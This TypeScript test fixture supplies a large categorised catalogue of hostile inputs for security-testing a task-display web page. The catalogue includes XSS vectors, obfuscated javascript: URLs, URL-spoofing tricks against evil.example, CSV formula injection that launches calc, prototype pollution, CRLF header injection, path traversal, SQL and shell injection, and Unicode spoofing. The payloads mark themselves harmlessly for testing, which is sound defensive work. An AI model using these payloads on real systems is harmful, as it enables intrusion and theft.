// Hostile texts, as a compromised server or one of its users may send them. Each sets `executed` on the window when
// it runs, or leaves an element of its own behind, or leads to another host.

import { select } from "./tiers";

export interface Payload {
  /** Payloads of one kind attack in the same way. */
  kind: string;
  name: string;
  text: string;
  /** The address that the page may use as an image or as a link; none for nearly all. */
  image?: string;
  /** The link at its front when it is parsed as a prompt. */
  link?: string;
}

/** Detected by every test if it runs. */
const RUN = "window.executed=1";
/** Hidden in the middle of a word. */
const [TAB, NEWLINE, RETURN, NUL, ESCAPE, BELL] = ["\t", "\n", "\r", "\0", "\u001b", "\u0007"];

/** One grapheme of a hundred parts, within which no line can be broken. */
export const UNBREAKABLE = "\u{1f468}\u200d".repeat(100) + "\u{1f466}";

const byKind: Record<string, [name: string, text: string, image?: string][]> = {
  "a script": [
    ["an image with a handler", `<img src=x onerror="${RUN}">`],
    ["a script", `<script>${RUN}</script>`],
    ["a script in capitals, not closed", `<SCRIPT SRC=https://evil.example/x.js `],
  ],
  "an attribute": [
    ["a script that closes an attribute", `"><script>${RUN}</script>`],
    ["a handler that closes an attribute", `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`],
    ["a handler that closes single quotes", `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`],
    ["a handler without quotes", `x onfocus=${RUN} autofocus tabindex=1 `],
  ],
  "a disguised handler": [
    ["a handler in mixed case, between slashes", `<ImG/SrC=x/OnErRoR=${RUN}>`],
    ["a handler behind a line end and a form feed", `<img\n\fsrc=x\nonerror\n=\n"${RUN}">`],
  ],
  "a handler without interaction": [
    ["a handler that starts by itself", `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
    [
      "a handler of an animation",
      `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">x</b>`,
    ],
    ["a body with a handler", `<body onload="${RUN}" onpageshow="${RUN}">`],
    ["a video with a handler", `<video autoplay onloadstart="${RUN}"><source src=x onerror="${RUN}"></video>`],
    ["an input that takes the focus", `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}">`],
    ["a marquee", `<marquee onstart="${RUN}">x</marquee>`],
  ],
  "SVG and MathML": [
    ["SVG with a handler", `<svg onload="${RUN}"></svg>`],
    ["SVG with a script", `<svg><script href="data:text/javascript,${RUN}"></script><script>${RUN}</script></svg>`],
    [
      "SVG that animates an address",
      `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
    ],
    [
      "SVG with HTML inside",
      `<svg><foreignObject><iframe srcdoc="<script>parent.executed=1</script>"></iframe></foreignObject></svg>`,
    ],
    [
      "SVG that uses another",
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
    ],
    ["MathML with a link", `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`],
  ],
  "a confused parser": [
    ["mutation XSS", `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`],
    ["a comment that ends early", `<!--><img src=x onerror=${RUN}>-->`],
    [
      "the end of every container",
      `</title></textarea></style></noscript></script></template><img src=x onerror=${RUN}>`,
    ],
  ],
  "another element": [
    ["a frame", `<iframe src="javascript:parent.executed=1" srcdoc="<script>parent.executed=1</script>"></iframe>`],
    ["an object and an embed", `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`],
    ["a base", `<base href="https://evil.example/"><a href="x">x</a>`],
    ["a meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
    [
      "a form that goes elsewhere",
      `<form action="https://evil.example/"><button formaction="javascript:${RUN}">x</button></form>`,
    ],
    ["a link with a ping", `<a href="https://evil.example/" ping="https://evil.example/ping" target="_blank">x</a>`],
  ],
  "encoded markup": [
    ["markup in entities", `&lt;img src=x onerror=${RUN}&gt;&#60;script&#62;${RUN}&#60;/script&#62;`],
    ["percent-encoded markup", `%3Cscript%3E${RUN}%3C%2Fscript%3E`],
    [
      "markup in escapes of JavaScript",
      `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e\\x3cimg src=x onerror=${RUN}\\x3e`,
    ],
    ["markup in fullwidth signs", `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`],
    ["a link as Markdown", `[x](javascript:${RUN}) ![x](https://evil.example/x.png) <javascript:${RUN}>`],
  ],
  "javascript:": [
    ["javascript:", `javascript:${RUN}`],
    ["javascript: in mixed case", `JaVaScRiPt:${RUN}`],
    ["javascript: with a host", `javascript://cdn.discordapp.com/attachments/1/2/a.png?%0a${RUN}`],
    ["javascript: after spaces and control characters", `\u0001\u001f  javascript:${RUN}`],
  ],
  "disguised javascript:": [
    ["javascript: with a tab and line ends inside", `java${TAB}scr${NEWLINE}ipt${RETURN}:${RUN}`],
    ["javascript: with NUL inside", `java${NUL}script:${RUN}`],
    ["javascript: in entities", `&#106;avascript&colon;${RUN}`],
    ["javascript: in hexadecimal entities", `&#x6A&#x61vascript&#58;${RUN}`],
    ["percent-encoded javascript:", `javascript%3A${RUN}`],
    ["javascript: with a fullwidth colon", `javascript\uff1a${RUN}`],
    ["javascript: after a byte order mark", `\ufeffjavascript:${RUN}`],
  ],
  "another scheme": [
    ["view-source: and feed: before javascript:", `view-source:feed:javascript:${RUN}`],
    ["vbscript:", `vbscript:MsgBox("${RUN}")`],
    ["a page in data:", `data:text/html,<script>${RUN}</script>`],
    ["a page in data:, as base64", `data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==`],
    ["a drawing in data:", `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`],
    ["file:", `file:///etc/passwd`],
    ["blob:", `blob:https://evil.example/5b3c0d0e-0000-4000-8000-000000000000`],
    ["filesystem: and about:", `filesystem:https://evil.example/temporary/x.html about:blank#${RUN}`],
  ],
  "no scheme": [
    ["no scheme", `//evil.example/x.png`, "http://evil.example/x.png"],
    ["no scheme, with backslashes", `\\\\evil.example\\x.png`],
    ["one slash and a backslash", `/\\evil.example/x.png`],
    ["https: without slashes", `https:evil.example/x.png`],
    ["https: with one slash and a backslash", `https:/\\evil.example/x.png`],
  ],
  "a user name": [
    ["a user name that looks like a host", `https://cdn.discordapp.com@evil.example/attachments/1/2/a.png`],
    ["a user and a password", `https://user:password@evil.example/x.png`],
    ["a user name after a backslash", `https://evil.example\\@cdn.discordapp.com/x.png`],
    ["a percent-encoded user name", `https://cdn.discordapp.com%40evil.example/x.png`],
  ],
  "a disguised host": [
    ["a host with a Cyrillic letter", `https://cdn.disc\u043erdapp.com/attachments/1/2/a.png`],
    ["a host with a fullwidth dot", `https://evil\u3002example/x.png`],
    ["a host with a dot at its end", `https://cdn.discordapp.com./attachments/1/2/a.png`],
    ["a host in brackets", `https://[::ffff:127.0.0.1]/x.png`],
    ["an invalid port", `https://evil.example:99999/x.png`],
  ],
  "a path": [
    ["a quote in the path", `https://evil.example/x.png"onerror="${RUN}`],
    ["a path with dot segments", `https://cdn.discordapp.com/attachments/../../mj/task/list`],
    ["a percent-encoded path with dot segments", `https://cdn.discordapp.com/attachments/%2e%2E/.%2e/mj/task/list`],
    ["a right-to-left override in the path", `https://evil.example/\u202egnp.exe`],
    ["a zero-width space in the host", `https://cdn.discord\u200bapp.com/a.png`],
  ],
  "an allowed address": [
    [
      "a host with Discord's as a prefix",
      `https://cdn.discordapp.com.evil.example/a.png`,
      `https://cdn.discordapp.com.evil.example/a.png`,
    ],
    ["a host in Punycode", `https://cdn.xn--discrdapp-7ih.com/b.png`, `https://cdn.xn--discrdapp-7ih.com/b.png`],
    ["a port", `https://pictures.example:8443/c.png`, `https://pictures.example:8443/c.png`],
    ["capitals", `HTTPS://Pictures.EXAMPLE/D.png`, `https://pictures.example/D.png`],
    [
      "javascript: in the query",
      `https://pictures.example/e.png?next=javascript:${RUN}#javascript:${RUN}`,
      `https://pictures.example/e.png?next=javascript:${RUN}#javascript:${RUN}`,
    ],
  ],
  CSS: [
    [
      "CSS that runs",
      `x;width:expression(${RUN});behavior:url(#default#time2);-moz-binding:url(https://evil.example/x)`,
    ],
    ["CSS that fetches", `url(https://evil.example/x.png) ;background:url("https://evil.example/y.png")`],
    ["CSS that imports", `@import "https://evil.example/x.css";</style><style>*{display:none}</style>`],
    ["a class and a style", `x" class="blank picture" style="position:fixed;inset:0;background:red`],
  ],
  "a template or a formula": [
    [
      "templates",
      "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% 7*7 %} {{constructor.constructor('window.executed=1')()}} `${window.executed=1}`",
    ],
    ["a formula", `=HYPERLINK("https://evil.example/?x="&A1,"x")`],
    ["a formula that starts a program", `+cmd|' /C calc'!A0`],
    ["a formula that sums", `@SUM(1+1)*cmd|' /C calc'!A0`],
    ["a formula after a minus and a tab", `-2+3+cmd|' /C calc'!A0\t=1+1`],
  ],
  "a prototype": [
    ["the prototype", `__proto__`],
    ["the constructor", `constructor`],
    ["JSON that pollutes", `{"__proto__":{"executed":1},"constructor":{"prototype":{"executed":1}},"toString":1}`],
  ],
  "a name in the page": [
    ["an ID of the page's own", `panic`],
    [
      "elements that shadow the page's names",
      `<form id=app name=location><input id=panic name=attributes></form><a id=boot name=executed>`,
    ],
    ["a selector", `#app *:has([data-task-id="x"]),]{}"'`],
  ],
  "text direction and invisible text": [
    ["a right-to-left override", `\u202eevil\u202dlive\u202e safe.exe`],
    ["embeddings and isolates that do not end", `\u202a\u202b\u2066\u2067\u2068 abc \u05d0\u05d1\u05d2 123`],
    ["invisible characters", `a\u200b\u200c\u200d\u2060\ufeff\u00adb\u180e\u3164c`],
  ],
  "control characters": [
    ["NUL and other controls", `a${NUL}b${BELL}c\u0008d\u007fe\u0085f\u2028g\u2029h`],
    [
      "escapes of a terminal",
      `${ESCAPE}[2J${ESCAPE}[31mred${ESCAPE}]0;title${BELL}${ESCAPE}]8;;javascript:${RUN}${ESCAPE}\\x`,
    ],
  ],
  "a header, a path or a command": [
    ["a header line", `x\r\nSet-Cookie: executed=1\r\nLocation: https://evil.example/\r\n\r\n<script>${RUN}</script>`],
    ["invalid percent-encoding", `%E0%A4%A%00%zz&x=1&task=evil#top?y=2`],
    ["a path", `../../submit/imagine?x=1#y/..;/%2e%2e/`],
    ["SQL and a shell", `'; DROP TABLE tasks; -- $(touch /tmp/executed) \`id\` | & ;`],
  ],
  "a very long text": [
    ["a very long word", "W".repeat(3000)],
    ["very long Chinese text", "\u6f22".repeat(1500)],
    ["a very long number", "1234567890".repeat(200)],
    ["stacked combining marks", ("Z" + "\u0300\u0301\u0302\u0303\u0323\u0330\u0359".repeat(12)).repeat(8)],
    ["one grapheme of a hundred parts", UNBREAKABLE],
    [
      "emoji sequences",
      "\u{1f926}\u{1f3fe}\u200d\u2642\ufe0f\u{1f1e9}\u{1f1ea}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}".repeat(80),
    ],
    ["very many lines", "x\n".repeat(300)],
    ["prompt parameters without values", "--ar --v -- \u2014\u2014 --__proto__ x --constructor " + "--no ".repeat(60)],
  ],
};

const ALL: Payload[] = [
  ...Object.entries(byKind).flatMap(([kind, payloads]) =>
    payloads.map(([name, text, image]) => ({ kind, name, text, image })),
  ),
  {
    kind: "a link in a prompt",
    name: "a space in the path",
    text: `https://evil.example/x.png onerror=${RUN}`,
    link: "https://evil.example/x.png",
  },
  {
    kind: "a link in a prompt",
    name: "a line end in the path",
    text: `https://evil.example/y.png\r\nSet-Cookie: executed=1`,
    link: "https://evil.example/y.png",
  },
];

/** The payloads of this run. */
export const PAYLOADS = select(ALL, { name: ({ name }) => name, classOf: ({ kind }) => kind });

/** Trims a text as the page does: unlike JavaScript's trim it keeps a byte order mark and removes U+0085. */
export const trimmed = (text: string) => text.replaceAll(/^(?:(?!\ufeff)\s|\u0085)+|(?:(?!\ufeff)\s|\u0085)+$/g, "");

/** Parts of a task that the page parses, so that more of them is shown than plain text. */
export interface TaskOverrides {
  status?: string;
  action?: string;
  description?: string;
  [field: string]: unknown;
}

/** A task whose every text is the payload, except for the overrides. */
export function hostileTask(
  text: string,
  id: string,
  overrides: TaskOverrides = {},
): Record<string, unknown> & { id: string } {
  const button = { customId: text, emoji: text, label: text, type: 2, style: 1, url: text, [text]: text };
  const nested = { url: text, href: text, [text]: [text, { [text]: text }] };
  const { properties, ...fields } = overrides;
  return {
    id,
    action: text,
    status: text,
    prompt: text,
    promptEn: text,
    description: text,
    failReason: text,
    state: text,
    progress: text,
    imageUrl: text,
    botType: text,
    [text]: text,
    buttons: [button, { ...button, type: 5, style: 5 }, { emoji: { name: text, id: text }, label: "", customId: text }],
    properties: {
      finalPrompt: text,
      finalZhPrompt: text,
      botType: text,
      imageSeed: text,
      nonce: text,
      messageHash: text,
      discordInstanceId: text,
      discordChannelId: text,
      customId: text,
      notifyHook: text,
      bannedWord: text,
      numberOfQueues: text,
      imageUrl: text,
      nested,
      [text]: text,
      ...(properties as object | undefined),
    },
    ...fields,
  };
}

/** Counts the occurrences of the payload in a value, keys included. */
export function countOccurrences(text: string, value: unknown): number {
  if (value === text) return 1;
  if (typeof value !== "object" || value === null) return 0;
  return Object.entries(value)
    .map(([name, inner]) => (name === text ? 1 : 0) + countOccurrences(text, inner))
    .reduce((sum, places) => sum + places, 0);
}
